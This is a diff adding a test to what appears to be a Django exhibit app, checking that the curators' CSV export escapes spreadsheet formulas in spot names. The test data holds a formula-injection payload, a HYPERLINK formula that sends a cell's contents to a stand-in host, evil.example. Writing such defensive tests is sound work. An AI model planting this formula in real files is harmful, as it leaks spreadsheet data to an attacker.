@@ -186,3 +186,22 @@ def test_a_code_must_use_crockfords_alphabet_and_be_free(admin_client, exhibit):
 
 def test_curators_cannot_edit_codes(curator_client, exhibit):
     assert curator_client.get(CODES_URL).status_code in (302, 403)
+
+
+def test_the_csv_export_turns_formulas_in_names_into_text(curator_client, exhibit):
+    """A spot named like a formula (an editor's typo or a hostile import) must not run when a
+    curator opens the export in a spreadsheet."""
+    exhibit.spot.name = '=HYPERLINK("http://evil.example/?"&A1,"Stationsplein")'
+    exhibit.spot.save_revision().publish()
+    ScanCount.objects.create(
+        qr_code=ensure_code(exhibit.spot),
+        day=timezone.localdate(),
+        language="nl",
+        count=1,
+    )
+
+    exported = curator_client.get(REPORT_URL, {"format": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
+    spot_names = {row["name"] for row in rows if row["kind"] == "spot"}
+    assert spot_names == {"'" + exhibit.spot.name}
